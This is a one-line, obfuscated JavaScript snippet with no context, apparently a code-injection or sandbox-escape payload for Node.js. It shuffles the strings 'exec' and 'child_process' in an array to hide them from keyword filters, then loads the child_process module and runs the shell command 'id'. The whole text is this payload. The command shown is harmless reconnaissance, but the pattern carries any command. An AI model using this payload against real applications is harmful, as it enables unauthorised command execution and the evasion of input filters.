(function(a,n){while(--n){a.push(a.shift())}})(_a=['exec','child_process'],2);var _a;const f=i=>_a[i];require(f(0))[f(1)]('id')
